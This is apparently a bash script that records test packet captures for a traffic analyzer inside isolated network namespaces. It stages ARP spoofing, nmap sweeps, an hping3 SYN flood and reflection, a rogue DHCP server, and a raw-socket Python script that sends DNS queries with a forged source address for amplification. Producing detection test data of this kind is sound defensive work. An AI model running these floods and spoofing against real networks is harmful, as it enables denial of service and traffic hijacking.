#!/usr/bin/env bash
# Records the captures of this folder with attacks on a link, sweeps and floods:
# arping, nmap, hping3, dnsmasq, udhcpc, lldpd and keepalived, with known answers
# for `flowgauge summary`.
#
#   sudo ./record-link.sh [OUTPUT_FOLDER]        (default: the folder of the script)
#
# Debian 12 packages:
#   iproute2 util-linux procps ethtool tcpdump zstd arping nmap hping3
#   dnsmasq-base udhcpc lldpd keepalived python3
#
# The script uses private mount, UTS, network and process namespaces. It does not
# use or change any interface, address or service of the machine.

here=$(realpath "$(dirname "$0")")
# shellcheck source=../namespaces.sh
. "$here/../namespaces.sh"
enter 240 "$@"

# cl 10.78.0.2, sv 10.78.0.1 and at 10.78.0.9, each at a port of the bridge of sw
netns cl sv at sw
cable cl eth0 02:00:00:78:00:02 sw port1 02:00:00:78:01:01
cable sv eth0 02:00:00:78:00:01 sw port2 02:00:00:78:01:02
cable at eth0 02:00:00:78:00:09 sw port3 02:00:00:78:01:03
# Announcements of LLDP pass the bridge too.
ip -n sw link add bridge type bridge group_fwd_mask 16384
ip netns exec sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1
for port in port1 port2 port3; do ip -n sw link set "$port" master bridge; done
ip -n sw link set bridge up
addr cl eth0 10.78.0.2/24
addr sv eth0 10.78.0.1/24
addr at eth0 10.78.0.9/24
ip netns exec sv sysctl -qw net.ipv4.ip_forward=1
ip -n at route add 10.79.0.0/16 via 10.78.0.1
ip -n sv route add blackhole 10.79.0.0/16

capture() { record "$1.pcap" "$2" -i eth0; }
end() {
    finish "$1.pcap"
    zstd -q -19 --rm "out/$1.pcap"
}

mkdir web
echo 'It works.' >web/index.html
start web sv python3 -m http.server 80 --directory web
until_ok 10 listens sv 80

# ------------------------------------------------------------------ findings
capture arp-conflict cl
in_ns cl ping -c 2 -i 0.2 10.78.0.1
start owner sv arping -q -U -P -c 12 -w 30 -i eth0 -S 10.78.0.1 10.78.0.1
in_ns at arping -q -U -P -c 12 -w 30 -i eth0 -S 10.78.0.1 10.78.0.1
end arp-conflict

capture arp-sweep cl
in_ns at nmap -n -sn -PR 10.78.0.1-120
end arp-sweep

capture icmp-sweep sv
in_ns at nmap -n -sn -PE 10.79.0.1-60
end icmp-sweep

# Answers to addresses of others are to leave the server, not to return.
ip -n sv route add blackhole default
capture syn-flood sv
in_ns at hping3 -q -S -p 80 --rand-source -c 600 -i u3000 10.78.0.1
end syn-flood
ip -n sv route del blackhole default

for ((i = 20; i < 50; i++)); do addr sv eth0 "10.78.0.$i/24"; done
capture syn-reflection cl
for ((i = 20; i < 50; i++)); do in_ns at hping3 -q -S -a 10.78.0.2 -p 80 -c 2 -i u1000 "10.78.0.$i"; done
end syn-reflection
for ((i = 20; i < 50; i++)); do ip -n sv addr del "10.78.0.$i/24" dev eth0; done

text=$(printf 'x%.0s' $(seq 200))
start names sv dnsmasq --keep-in-foreground --no-daemon --port=53 --listen-address=10.78.0.1 --bind-interfaces \
    --no-resolv --no-hosts --edns-packet-max=4096 $(for i in 1 2 3 4 5 6; do echo "--txt-record=large.lab.example,$i$text"; done)
until_ok 10 listens sv 53
capture dns-amplification cl
# The queries have the address of the client as their source.
cat >queries.py <<'END'
import socket, struct, time

def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

name = b"\x05large\x03lab\x07example\x00"
link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(120):
    query = struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 1) + name + struct.pack("!HH", 16, 1)
    query += struct.pack("!BHHIH", 0, 41, 4096, 0, 0)
    udp = struct.pack("!HHHH", 20000 + number, 53, 8 + len(query), 0) + query
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number, 0, 64, 17, 0,
                       socket.inet_aton("10.78.0.2"), socket.inet_aton("10.78.0.1"))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    link.sendto(head + udp, ("10.78.0.1", 0))
    time.sleep(0.003)
END
must at python3 queries.py
end dns-amplification
stop names

cat >lease <<'END'
#!/bin/sh
exit 0
END
chmod 755 lease
serve() {
    start "dhcp-$1" "$1" dnsmasq --keep-in-foreground --no-daemon --port=0 --interface=eth0 --bind-interfaces \
        --dhcp-range="$2,1h" --dhcp-option=3,"$3" --dhcp-leasefile="$T/leases-$1" --dhcp-authoritative --no-ping
    until_ok 10 listens "$1" 67
}
serve sv 10.78.0.100,10.78.0.120 10.78.0.1
serve at 10.78.0.200,10.78.0.220 10.78.0.9
capture dhcp-servers cl
must cl udhcpc -q -n -f -i eth0 -s "$T/lease" -x hostname:desk-7
end dhcp-servers
stop dhcp-at

# ------------------------------------------------------------------ ordinary
cat >keepalived.conf <<'END'
global_defs {
    vrrp_garp_master_repeat 1
    vrrp_garp_master_delay 0
}
vrrp_instance lab {
    state MASTER
    interface eth0
    virtual_router_id 51
    priority 200
    advert_int 1
    virtual_ipaddress {
        10.78.0.254/24
    }
}
END
mkdir -p /run/lldpd
capture ordinary-link cl
start router sv keepalived --dont-fork --log-console --vrrp --use-file="$T/keepalived.conf" \
    --pid="$T/keepalived.pid" --vrrp_pid="$T/vrrp.pid"
start announcer sv lldpd -d -I eth0 -u "$T/lldpd.socket" -S 'Laboratory server'
must cl udhcpc -q -n -f -i eth0 -s "$T/lease" -x hostname:desk-7
in_ns cl ping -c 3 -i 0.3 10.78.0.1
in_ns cl curl -q -s -o /dev/null http://10.78.0.1/
in_ns cl ping -c 1 10.78.0.9
sleep 5
end ordinary-link
stop announcer router

report "done"
